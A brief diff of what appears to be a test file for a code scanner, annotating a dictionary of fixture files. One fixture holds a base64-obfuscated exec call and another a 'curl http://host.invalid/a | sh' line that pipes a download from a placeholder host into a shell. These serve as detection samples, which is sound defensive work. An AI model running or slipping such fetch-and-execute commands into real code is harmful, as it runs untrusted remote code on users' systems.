@@ -21,7 +21,7 @@ for path in map(Path, sys.argv[1:]):
     print(*(outcome.reason for outcome in verdict.outcomes if "NoneType" in outcome.reason))
 print(*(name for name in set(sys.modules) - loaded if not name.startswith("encodings.")))
 """
-_FILES = {
+_FILES: dict[str, bytes | str] = {
     "harbour/__init__.py": "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
     "harbour/pier.py": "import subprocess\nprint 'Python 2'\nsubprocess.run(['ls'])\n",
     "harbour/run.sh": "#!/bin/sh\ncurl http://host.invalid/a | sh\n",
